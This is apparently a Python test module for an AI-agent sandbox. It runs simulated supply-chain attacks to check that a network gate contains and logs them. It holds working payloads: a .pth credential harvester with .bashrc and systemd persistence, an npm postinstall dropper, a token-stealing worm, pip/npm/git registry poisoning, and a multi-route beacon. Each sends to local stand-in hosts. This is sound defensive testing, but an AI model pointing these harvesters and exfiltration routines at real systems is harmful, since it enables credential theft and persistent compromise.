"""Supply chain: hostile code that arrives as a dependency (a ``.pth`` file, an npm
``postinstall``, a build step, a worm) and runs with the agent's rights.

Everything here is harmless and points only at the local sink: the "attacker" hosts are
``canary.selftest`` (mapped to the sink, never allowed), ``allowed.selftest`` (the sink, on
the one allowed port: exfiltration through an allowed endpoint, which must never carry a
real secret), the sink's 127.0.0.1 port directly, and api.github.com (mapped to 127.0.0.1).

The verdicts look for *real* secrets only: the canary file, the real API key, the real
GitHub token, the operator's environment. Placeholders are worthless outside the session,
but one reaching the sink would still mean the gate's leak detection failed, so that is
reported too. Every request a payload sends through the gate must appear in the decision
log; one that does not is reported as escaped ("not logged").
"""

from __future__ import annotations

import os
import secrets
import shutil
import stat

from agentvm.selftest.framework import CANARY_HOST, SINK_NAME, Env, Verdict, case

# ---------------------------------------------------------------------------- shared checks


def sink_text(o) -> str:
    return "\n".join(d.decode(errors="replace") for _, d in o.sink)


def placeholders(o) -> dict[str, str]:
    """The session's placeholders, as the payload printed them (``PH NAME VALUE``)."""
    out = {}
    for line in o.stdout.splitlines():
        parts = line.split(" ")
        if len(parts) == 3 and parts[0] == "PH" and parts[2]:
            out[parts[1]] = parts[2]
    return out


def real_leaks(env: Env, *outcomes) -> list[str]:
    """Real canary values that reached the sink or any output, and placeholders that reached the sink."""
    found = []
    for o in outcomes:
        st = sink_text(o)
        found += [f"{label} reached the sink" for label in env.canary_seen(st)]
        found += [f"{label} in the sandbox's output" for label in env.canary_seen(o.out)]
        found += [f"placeholder {n} reached the sink (leak detection failed)" for n, v in placeholders(o).items() if v in st]
    return list(dict.fromkeys(found))


def log_check(o) -> tuple[list[str], str]:
    """Every ``ATTEMPT HOST PATH`` the payload printed must have a decision-log line
    (same host, same path; a CONNECT attempt prints ``-`` as its path). Returns (missing, summary)."""
    attempts = []
    for line in o.stdout.splitlines():
        if line.startswith("ATTEMPT "):
            _, host, path = (line.split(" ", 2) + ["-"])[:3]
            attempts.append((host, path))
    missing = []
    for host, path in attempts:
        # a request line with that path, or (a client that tunnels even http://, like undici, or
        # a CONNECT) a pathless connect-phase line for that host
        ok = any(
            e.get("host") == host
            and (path == "-" or not e.get("path") or str(e.get("path")).split("?")[0] == path.split("?")[0])
            for e in o.egress
        )
        if not ok:
            missing.append(f"{host}{'' if path == '-' else path}")
    denied = len(o.denied())
    alerts = sum(1 for e in o.egress if e.get("alert"))
    return missing, f"{len(attempts)} gate-routed attempts, {len(o.egress)} log lines ({denied} deny, {alerts} alerts)"


def grant_dir(env: Env, name: str, files: dict[str, str]) -> str:
    """A host directory (readable by any uid) holding ``files``, to be granted read-only."""
    d = env.root / f"{name}-{secrets.token_hex(4)}"
    d.mkdir(mode=0o755)
    for rel, text in files.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        os.chmod(p.parent, 0o755)
        p.write_text(text)
        os.chmod(p, 0o644)
    return str(d)


def verdict(env: Env, what: str, *outcomes, extra_bad: list[str] | None = None, contained: str = "") -> Verdict:
    bad = real_leaks(env, *outcomes) + list(extra_bad or [])
    summaries = []
    for o in outcomes:
        missing, summary = log_check(o)
        summaries.append(summary)
        if missing:
            bad.append(f"not logged: {', '.join(missing[:5])}")
    if bad:
        return Verdict.escaped(f"{what}: " + "; ".join(bad))
    return Verdict.contained(f"{what}: no real secret reached the sink or the output; {'; '.join(summaries)}"
                             + (f"; {contained}" if contained else ""))


# the exfiltration library every payload shares (Python): three routes to the attacker
_PY_EXFIL = r"""
import os, socket, urllib.parse, urllib.request
_N = [0]
_NOPROXY = urllib.request.build_opener(urllib.request.ProxyHandler({}))
def attempt(host, port, path, body=b"", headers=None, via_gate=True):
    _N[0] += 1
    path = f"{path}-{_N[0]}"
    if via_gate:
        print("ATTEMPT", host, path.split("?")[0], flush=True)
    req = urllib.request.Request(f"http://{host}:{port}{path}", data=body or None, headers=headers or {},
                                 method="POST" if body else "GET")
    try:
        r = (urllib.request.urlopen if via_gate else _NOPROXY.open)(req, timeout=3)
        return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:
        return type(e).__name__
def raw(port, data):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2); s.sendall(data); s.close(); return "sent"
    except OSError as e:
        return f"{type(e).__name__}"
def ship(tag, loot, sink_port):
    blob = "\n".join(f"{k}={v}" for k, v in loot.items()).encode()
    r = {}
    r["proxy->sink-name"] = attempt("@SINK@", sink_port, f"/{tag}-bulk", blob)
    r["proxy->canary-host"] = attempt("@CANARYHOST@", sink_port, f"/{tag}-bulk", blob)
    r["direct->127.0.0.1"] = raw(sink_port, b"POST /" + tag.encode() + b" HTTP/1.0\r\n\r\n" + blob)
    r["direct-noproxy->sink"] = attempt("127.0.0.1", sink_port, f"/{tag}-np", blob, via_gate=False)
    r["allowed-bulk"] = attempt("allowed.selftest", sink_port, f"/{tag}-bulk", blob)
    # one item per request, in the query and the body: what a placeholder does not taint gets out
    for k, v in list(loot.items())[:24]:
        q = urllib.parse.quote(f"{k}={v}"[:1500])
        r["allowed:" + k] = attempt("allowed.selftest", sink_port, f"/{tag}-item?d={q}", f"{k}={v}".encode())
    return r
"""


def _exfil_lib() -> str:
    return _PY_EXFIL.replace("@SINK@", SINK_NAME).replace("@CANARYHOST@", CANARY_HOST)


SECRETY = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED")

# ---------------------------------------------------------------------------- 1. .pth harvester

_HARVEST = r"""
import glob, json, os
@EXFIL@
H = os.path.expanduser("~")
loot = {}
for k, v in os.environ.items():
    if any(w in k.upper() for w in @SECRETY@):
        loot["env:" + k] = v
for k in ("CANARY_API_KEY", "GITHUB_TOKEN"):
    print("PH", k, os.environ.get(k, ""))
pats = ["~/.aws/credentials", "~/.ssh/*", "~/.env", ".env", "/workspace/.env", "~/.kube/config", "~/.npmrc",
        "~/.netrc", "~/.git-credentials", "~/.config/gh/hosts.yml", "/proc/self/environ", "/proc/1/environ",
        "/proc/[0-9]*/environ", "/root/.aws/credentials", "/root/.ssh/*", "/etc/shadow", "/mnt/canaries/*",
        "@CANARYDIR@/secret.txt", "/home/*/.ssh/*"]
for pat in pats:
    for p in glob.glob(os.path.expanduser(pat)):
        try:
            data = open(p, "rb").read(65536).replace(b"\0", b"\n").decode(errors="replace")
        except OSError as e:
            continue
        if p.endswith("environ"):  # only what looks like a secret, one variable per item
            for line in data.splitlines():
                if any(w in line.split("=")[0].upper() for w in @SECRETY@) or "SELFTEST" in line:
                    loot[f"file:{p}:{line.split('=')[0]}"] = line
        else:
            loot["file:" + p] = data
print("LOOT", sorted(loot))
print("SHIP", ship("pth", loot, @PORT@))
# persistence, in the places a developer's machine would run it again
for p, text in ((H + "/.config/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c 'python3 -c pass'\n"),
                (H + "/.bashrc", "\n(python3 -c 'import evil_harvest' &) # @MARK@\n"),
                (H + "/.local/lib/python3.11/site-packages/zz-evil-@MARK@.pth", "import os  # @MARK@\n")):
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "a") as f:
            f.write(text)
        print("PERSIST", p, "written")
    except OSError as e:
        print("PERSIST", p, e.strerror)
"""

_PERSIST_CHECK = r"""
for f in ~/.config/systemd/user/x.service ~/.bashrc ~/.local/lib/python3.11/site-packages/zz-evil-*.pth; do
  [ -e "$f" ] && grep -l "$1" "$f" 2>/dev/null | sed 's/^/SURVIVED /'
done
[ -e ~/.config/systemd/user/x.service ] && echo SURVIVED x.service
true
"""


@case("supply.pth-harvester", "supply-chain",
      "a .pth file in a dependency harvests env vars and credential files and ships them (proxy, direct, allowed route), then persists",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    mark = secrets.token_hex(6)
    code = (_HARVEST.replace("@EXFIL@", _exfil_lib()).replace("@SECRETY@", repr(SECRETY))
            .replace("@PORT@", str(env.sink.port)).replace("@CANARYDIR@", str(env.canary_dir)).replace("@MARK@", mark))
    host = grant_dir(env, "evil-pth", {"evil.pth": "import evil_harvest\n", "evil_harvest.py": code})
    from agentvm.policy import MountGrant

    try:
        o = env.sandbox("import site; site.addsitedir('/opt/evil')", lang="python", timeout=15,
                        mounts=(MountGrant(host, "/opt/evil", False),))
        if "SHIP" not in o.stdout:
            return Verdict.error(f"the .pth payload did not run: {o.out[-400:]}")
        second = env.sandbox(_PERSIST_CHECK.replace("$1", mark), timeout=10, egress=False)
    finally:
        shutil.rmtree(host, ignore_errors=True)
    survived = [l for l in second.stdout.splitlines() if l.startswith("SURVIVED")]
    extra = [f"persisted into the next session: {', '.join(survived)}"] if survived else []
    ship = next((l for l in o.stdout.splitlines() if l.startswith("SHIP")), "")
    return verdict(env, ".pth harvester", o, extra_bad=extra,
                   contained=f"nothing it wrote survived; routes: {ship[5:300]}")


# ---------------------------------------------------------------------------- 2. npm postinstall dropper

_NPM = r"""
const fs = require("fs"), os = require("os"), path = require("path");
const H = os.homedir(), M = process.env.DROP_MARK, P = process.env.SINK_PORT;
console.log("PH CANARY_API_KEY " + (process.env.CANARY_API_KEY || ""));
console.log("PH GITHUB_TOKEN " + (process.env.GITHUB_TOKEN || ""));
const loot = {};
for (const [k, v] of Object.entries(process.env)) if (/KEY|TOKEN|SECRET|PASS|AUTH|CRED/i.test(k)) loot["env:" + k] = v;
for (const f of [".npmrc", ".yarnrc", ".env", ".netrc", ".aws/credentials", ".docker/config.json", ".git-credentials"]) {
  try { loot["file:" + f] = fs.readFileSync(path.join(H, f), "utf8"); } catch (e) {}
}
for (const f of ["/mnt/canaries/secret.txt", process.env.CANARY_DIR + "/secret.txt", "/proc/1/environ"]) {
  try { loot["file:" + f] = fs.readFileSync(f, "utf8").replace(/\0/g, "\n"); } catch (e) {}
}
let n = 0;
async function send(host, p, body, q = "") {
  n += 1; const url = `http://${host}:${P}${p}-${n}${q}`;
  console.log("ATTEMPT " + host + " " + `${p}-${n}`);
  try { const r = await fetch(url, {method: "POST", body}); return r.status; } catch (e) { return "err:" + (e.cause ? e.cause.code : e.message); }
}
(async () => {
  const res = {};
  const blob = JSON.stringify(loot);
  res.sink = await send(process.env.SINK_NAME, "/npm-bulk", blob);
  res.allowedBulk = await send("allowed.selftest", "/npm-bulk", blob);
  for (const [k, v] of Object.entries(loot)) res[k] = await send("allowed.selftest", "/npm-item", k + "=" + v, "?d=" + encodeURIComponent(k + "=" + v));
  // the dropper: a payload for later, hidden as dotfiles, unreadable
  const drops = ["/tmp/.X11-unix-" + M + "/.sysd", H + "/.cache/.node-gyp-" + M + "/.x", "/dev/shm/.pulse-" + M, H + "/.npm/_cacache/.tmp-" + M];
  for (const d of drops) {
    try {
      fs.mkdirSync(path.dirname(d), {recursive: true});
      fs.writeFileSync(d, "#!/bin/sh\n# dropped " + M + "\n", {mode: 0o755});
      fs.chmodSync(d, 0o000); fs.chmodSync(path.dirname(d), 0o000);
      res["drop:" + d] = "ok";
    } catch (e) { res["drop:" + d] = e.code; }
  }
  console.log("RESULT " + JSON.stringify(res));
})();
"""

_SEEK = r"""
import os, sys
M = sys.argv[1]
hits = []
for top in ("/tmp", "/dev/shm", "/home/agent", "/workspace"):
    for root, dirs, files in os.walk(top):
        for n in dirs + files:
            if M in n:
                hits.append(os.path.join(root, n))
print("SEEN", hits)
"""


@case("supply.npm-postinstall-dropper", "supply-chain",
      "an npm postinstall (node) harvests .npmrc and env, phones home, and hides a payload in /tmp, ~/.cache, /dev/shm",
      weakened_by="shared-state")
def _(env: Env) -> Verdict:
    mark = "m" + secrets.token_hex(6)
    e = {"DROP_MARK": mark, "SINK_PORT": str(env.sink.port), "SINK_NAME": SINK_NAME, "CANARY_DIR": str(env.canary_dir)}
    o = env.sandbox(["/usr/bin/node", "-e", _NPM], lang="argv", env=e, timeout=15)
    if "RESULT" not in o.stdout:
        return Verdict.error(f"the postinstall did not run: {o.out[-400:]}")
    second = env.sandbox(["/usr/bin/python3", "-c", _SEEK, mark], lang="argv", egress=False, timeout=10)
    seen = next((l for l in second.stdout.splitlines() if l.startswith("SEEN")), "")
    if not seen:
        return Verdict.error(f"the second session did not run: {second.out[-300:]}")
    extra = [f"the next session found the dropped payload: {seen[5:300]}"] if seen != "SEEN []" else []
    return verdict(env, "npm postinstall", o, extra_bad=extra, contained="the next session saw none of the dropped files")


# ---------------------------------------------------------------------------- 3. worm step

_WORM = r"""
import base64, json, os, subprocess
@EXFIL@
P = @PORT@
tok = os.environ.get("GITHUB_TOKEN", "")
print("PH GITHUB_TOKEN", tok)
print("PH CANARY_API_KEY", os.environ.get("CANARY_API_KEY", ""))
# every token-looking value the worm can find (it does not know which one is real)
toks = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET"))}
for f in ("~/.git-credentials", "~/.config/gh/hosts.yml", "/proc/1/environ"):
    try:
        data = open(os.path.expanduser(f)).read(4096)
    except OSError:
        continue
    if "\0" in data:  # an environment block (where pid 1 is readable: every token-looking entry)
        for kv in data.split("\0"):
            k, _, v = kv.partition("=")
            if v and any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET")):
                toks[f"file:{f}:{k}"] = v
    else:
        toks["file:" + f] = data
res = {}
repo = json.dumps({"name": "worm-@MARK@", "private": False}).encode()
for k, t in toks.items():
    h = {"Authorization": f"token {t}", "Content-Type": "application/json"}
    # "create a repo and publish" against the attacker's server, the allowed route, and GitHub itself
    res[k + "@sink"] = attempt("@SINK@", P, "/user/repos", repo, h)
    res[k + "@allowed"] = attempt("allowed.selftest", P, "/user/repos", repo, h)
    res[k + "@allowed-basic"] = attempt("allowed.selftest", P, "/git/worm.git/info/refs",
                                         headers={"Authorization": "Basic " + base64.b64encode(f"x:{t}".encode()).decode()})
    res[k + "@allowed-query"] = attempt("allowed.selftest", P, "/publish?access_token=" + t[:200])
    print("ATTEMPT api.github.com /user/repos")
    try:
        r = subprocess.run(["curl", "-sS", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", "-X", "POST",
                            "-H", f"Authorization: token {t}", "-d", repo.decode(), "https://api.github.com/user/repos"],
                           capture_output=True, text=True, timeout=5)
        res[k + "@github"] = r.stdout or r.stderr[-80:]
    except Exception as e:
        res[k + "@github"] = type(e).__name__
    # and git with the token in the URL (git moves userinfo into an Authorization header)
    print("ATTEMPT allowed.selftest /worm/worm.git/info/refs")
    r = subprocess.run(["git", "ls-remote", f"http://x-access-token:{t}@allowed.selftest:{P}/worm/worm.git"],
                       capture_output=True, text=True, timeout=5, cwd="/tmp", env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    res[k + "@git"] = r.returncode
print("RESULT", json.dumps(res)[:1500])
"""


@case("supply.worm-token-publish", "supply-chain",
      "a worm step uses every token it finds (GITHUB_TOKEN placeholder, ...) to create and publish a repo at the sink, "
      "the allowed route and api.github.com",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    code = (_WORM.replace("@EXFIL@", _exfil_lib()).replace("@PORT@", str(env.sink.port))
            .replace("@MARK@", secrets.token_hex(4)).replace("@SINK@", SINK_NAME))
    o = env.sandbox(code, lang="python", timeout=30)
    if "RESULT" not in o.stdout:
        return Verdict.error(f"the worm did not run: {o.out[-400:]}")
    git = [e for e in o.egress if "/worm/worm.git" in str(e.get("path", ""))]
    # the real GitHub token is never in the sandbox (cred-in-env puts only the API key in): a real
    # token reaching the sink would come from the gate's swap, the only holder of it
    return verdict(env, "worm", o, contained=f"git reached the gate {len(git)} time(s), all logged")


# ---------------------------------------------------------------------------- 4. registry poisoning


_POISON = r"""
M=$1; P=$2
mkdir -p ~/.config/pip ~/.pip 2>/dev/null
for f in ~/.config/pip/pip.conf ~/.pip/pip.conf; do printf '[global]\nindex-url = http://canary.selftest:%s/simple/%s\ntrusted-host = canary.selftest\n' "$P" "$M" >> "$f" 2>/dev/null; done
printf 'registry=http://canary.selftest:%s/npm/%s/\n' "$P" "$M" >> ~/.npmrc 2>/dev/null
printf '[url "http://canary.selftest:%s/%s/"]\n\tinsteadOf = https://github.com/\n' "$P" "$M" >> ~/.gitconfig 2>/dev/null
printf 'export HTTPS_PROXY=http://canary.selftest:%s PIP_INDEX_URL=http://canary.selftest:%s/%s\n' "$P" "$P" "$M" >> ~/.profile 2>/dev/null
for f in /etc/pip.conf /usr/lib/python3/dist-packages/pip.conf /etc/npmrc /etc/gitconfig; do
  (printf 'index-url = http://canary.selftest:%s/%s\n' "$P" "$M" >> "$f") 2>/dev/null && echo "WROTE $f"
done
echo POISONED
"""

_POISON_CHECK = r"""
M=$1
grep -rl "$M" ~/.config/pip ~/.pip ~/.npmrc ~/.gitconfig ~/.profile /etc/pip.conf /etc/npmrc /etc/gitconfig 2>/dev/null | sed 's/^/POISONED-CONFIG /'
git config --global --get-regexp 'url\..*insteadof' 2>/dev/null | grep "$M" | sed 's/^/GIT-REWRITE /'
echo CHECKED
"""


@case("supply.registry-poisoning", "supply-chain",
      "a dependency rewrites pip/npm/git configuration (user and system) to point the next install at the attacker",
      weakened_by="shared-state")
def _(env: Env) -> Verdict:
    mark = "p" + secrets.token_hex(6)
    o = env.sandbox(["/bin/sh", "-c", _POISON, "poison", mark, str(env.sink.port)], lang="argv", timeout=10)
    if "POISONED" not in o.stdout:
        return Verdict.error(f"the payload did not run: {o.out[-300:]}")
    second = env.sandbox(["/bin/sh", "-c", _POISON_CHECK, "check", mark], lang="argv", timeout=10)
    if "CHECKED" not in second.stdout:
        return Verdict.error(f"the check did not run: {second.out[-300:]}")
    bad = [l for l in second.stdout.splitlines() if l.startswith(("POISONED-CONFIG", "GIT-REWRITE"))]
    system = [l for l in o.stdout.splitlines() if l.startswith("WROTE")]
    if bad or system:
        return Verdict.escaped("the next session installs from the attacker: " + "; ".join(bad + system)[:400])
    return Verdict.contained("the poisoned pip/npm/git/profile configuration did not survive into the next session; "
                             "system configuration was read-only")


# ---------------------------------------------------------------------------- 5. install-time beacon

_BEACON = r"""
import os, socket
@EXFIL@
M = os.environ["BEACON"]; P = @PORT@
res = {}
res["http"] = attempt("@SINK@", P, f"/beacon/{M}")
res["http-canary-host"] = attempt("@CANARYHOST@", P, f"/beacon/{M}")
res["http-sub"] = attempt(f"{M}.@CANARYHOST@", P, f"/beacon/{M}")
# CONNECT tunnels: by name, by IP literal, by a name carrying the data
def connect(target, host):
    print("ATTEMPT", host, "-")
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = s.recv(200)
        if b" 200 " in head.split(b"\r\n")[0]:
            s.sendall(f"GET /beacon/{M} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()); s.recv(100)
        s.close()
        return head.split(b"\r\n")[0].decode()
    except OSError as e:
        return type(e).__name__
res["connect-name"] = connect(f"@SINK@:{P}", "@SINK@")
res["connect-ip"] = connect(f"127.0.0.1:{P}", "127.0.0.1")
res["connect-data"] = connect(f"{M}.@CANARYHOST@:{P}", f"{M}.@CANARYHOST@")
# no proxy at all: the resolver, the raw socket
try:
    socket.getaddrinfo("@SINK@", P); res["dns"] = "resolved"
except OSError as e:
    res["dns"] = type(e).__name__
res["raw"] = raw(P, f"GET /beacon/{M} HTTP/1.0\r\n\r\n".encode())
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(f"beacon {M}".encode(), ("127.0.0.1", P)); res["udp"] = "sent"
except OSError as e:
    res["udp"] = type(e).__name__
print("RESULT", res)
"""


@case("supply.install-beacon", "supply-chain",
      "an install-time beacon to the attacker's host by every route: proxy, CONNECT by name/IP/data-carrying name, DNS, raw TCP/UDP",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    m = "b" + secrets.token_hex(6)
    code = (_BEACON.replace("@EXFIL@", _exfil_lib()).replace("@PORT@", str(env.sink.port))
            .replace("@SINK@", SINK_NAME).replace("@CANARYHOST@", CANARY_HOST))
    o = env.sandbox(code, lang="python", timeout=15, env={"BEACON": m})
    if "RESULT" not in o.stdout:
        return Verdict.error(f"the beacon did not run: {o.out[-300:]}")
    hits = [d for _, d in o.sink if m.encode() in d]
    res = next(l for l in o.stdout.splitlines() if l.startswith("RESULT"))
    extra = [f"the beacon reached the attacker ({len(hits)}x): {hits[0][:80]!r}"] if hits else []
    return verdict(env, "beacon", o, extra_bad=extra, contained=f"no beacon reached the sink: {res[7:300]}")


# ---------------------------------------------------------------------------- 6. build step reads host secrets

_BUILD = r"""
import glob, os
@EXFIL@
print("PH CANARY_API_KEY", os.environ.get("CANARY_API_KEY", ""))
print("PH GITHUB_TOKEN", os.environ.get("GITHUB_TOKEN", ""))
loot = {}
pats = ["@CANARYDIR@/*", "/mnt/*/*", "/mnt/*", "/root/*", "/root/.*/*", "/home/*/.*", "/etc/shadow", "/etc/ssh/*key*",
        "@HOME@/vault/*", "@HOME@/gate/ca/*", "/var/lib/agentvm/vault/*", "/proc/[0-9]*/environ",
        "/opt/*/*", "/srv/*", "/var/*/*", "/workspace/../*"]
for pat in pats:
    for p in glob.glob(pat):
        if os.path.isdir(p):
            continue
        try:
            data = open(p, "rb").read(8192).replace(b"\0", b"\n").decode(errors="replace")
        except OSError:
            continue
        loot["file:" + p] = data
print("LOOT", sorted(loot)[:40])
print("SHIP", ship("build", loot, @PORT@))
"""


@case("supply.build-reads-host-secrets", "supply-chain",
      "a build step (setup.py/Makefile) reads host files outside every grant (canary file, keys, other processes' env) "
      "and ships them through the allowed route",
      weakened_by="grant-canaries")
def _(env: Env) -> Verdict:
    code = (_BUILD.replace("@EXFIL@", _exfil_lib()).replace("@PORT@", str(env.sink.port))
            .replace("@CANARYDIR@", str(env.canary_dir)).replace("@HOME@", str(env.home)))
    # under grant-canaries the framework grants the canary dir read-write, which the runtime refuses
    # unless the agent's uid can write it: open the directory (not secret.txt) for this run only
    old = None
    if "grant-canaries" in env.weakens:
        old = stat.S_IMODE(os.stat(env.canary_dir).st_mode)
        os.chmod(env.canary_dir, 0o1777)
    try:
        o = env.sandbox(code, lang="python", timeout=20)
    finally:
        if old is not None:
            os.chmod(env.canary_dir, old)
    if "SHIP" not in o.stdout:
        return Verdict.error(f"the build step did not run: {o.out[-300:]}")
    loot = next(l for l in o.stdout.splitlines() if l.startswith("LOOT"))
    return verdict(env, "build step", o, contained=f"it found only {loot[5:250]}")


__all__ = ["real_leaks", "log_check", "verdict", "grant_dir", "sink_text", "placeholders"]
